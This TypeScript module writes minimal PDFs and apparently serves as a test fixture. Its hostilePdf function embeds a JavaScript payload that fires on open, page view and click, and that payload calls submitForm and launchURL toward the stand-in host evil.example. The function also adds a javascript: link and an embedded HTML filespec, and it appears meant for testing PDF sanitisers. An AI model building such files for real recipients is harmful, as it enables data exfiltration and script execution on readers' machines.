import { deflateSync } from 'node:zlib'

/** The parts of a page other than its text. */
interface Embedded {
  /** Replaces Helvetica. */
  readonly font: string
  /** Further resources and operators of each page. */
  readonly resources: string
  readonly operators: string
  /** The objects that the font and the resources refer to, from number 4 on. */
  readonly objects: readonly Buffer[]
}

interface Made {
  /** Entries of the document's catalogue, which can start actions when a program opens the file. */
  readonly catalogue?: string
  /** Entries of each page. */
  readonly page?: string
  /** The compressed commands that draw each page. They replace the commands for its text. */
  readonly packed?: Buffer
  readonly embedded?: Embedded
}

const NOTHING: Embedded = {
  font: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  resources: '',
  operators: '',
  objects: [],
}

/** Writes a dictionary and its bytes. */
export const pdfStream = (entries: string, bytes: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<< /Length ${bytes.length} ${entries} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ])

/** Writes a PDF whose pages show these texts. */
export const pdfOf = (
  texts: readonly string[],
  { catalogue = '', page = '', packed, embedded = NOTHING }: Made = {},
): Buffer => {
  const contents = texts.map(
    (text) =>
      packed ??
      deflateSync(
        Buffer.from(
          `BT /F1 24 Tf 72 720 Td (${text.replace(/[()\\]/g, '\\$&')}) Tj ET ${embedded.operators}`,
        ),
      ),
  )
  const numberOf = (at: number) => 4 + embedded.objects.length + at * 2
  const objects: readonly (readonly [number, Buffer])[] = [
    [1, Buffer.from(`<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`)],
    [
      2,
      Buffer.from(
        `<< /Type /Pages /Count ${texts.length} /Kids [${texts.map((_, at) => `${numberOf(at)} 0 R`).join(' ')}] >>`,
      ),
    ],
    [3, Buffer.from(embedded.font)],
    ...embedded.objects.map((object, at) => [4 + at, object] as const),
    ...contents.flatMap((content, at): readonly (readonly [number, Buffer])[] => [
      [
        numberOf(at),
        Buffer.from(
          `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> ${embedded.resources} >> /Contents ${numberOf(at) + 1} 0 R ${page} >>`,
        ),
      ],
      [numberOf(at) + 1, pdfStream('/Filter /FlateDecode', content)],
    ]),
  ]
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const places: number[] = []
  let at = pieces[0]?.length ?? 0
  for (const [number, body] of objects) {
    const piece = Buffer.concat([Buffer.from(`${number} 0 obj\n`), body, Buffer.from('\nendobj\n')])
    places.push(at)
    pieces.push(piece)
    at += piece.length
  }
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  pieces.push(
    Buffer.from(
      `xref\n0 ${places.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${places.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(pieces)
}

const SCRIPT =
  "app.alert('xss'); this.submitForm('https://evil.example'); app.launchURL('https://evil.example'); xss()"

const ACTION = `<< /S /JavaScript /JS (${SCRIPT.replace(/[()\\]/g, '\\$&')}) >>`

/** Writes a PDF that tries to run a script when it is opened, shown and clicked. */
export const hostilePdf = (text: string): Buffer =>
  pdfOf([text], {
    catalogue: `/OpenAction ${ACTION} /AA << /WC ${ACTION} /DP ${ACTION} >> /Names << /JavaScript << /Names [(a) ${ACTION}] >> /EmbeddedFiles << /Names [(a.html) << /Type /Filespec /F (a.html) >>] >> >>`,
    page: `/AA << /O ${ACTION} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${ACTION} >> << /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:xss\\(\\)) >> >>]`,
  })
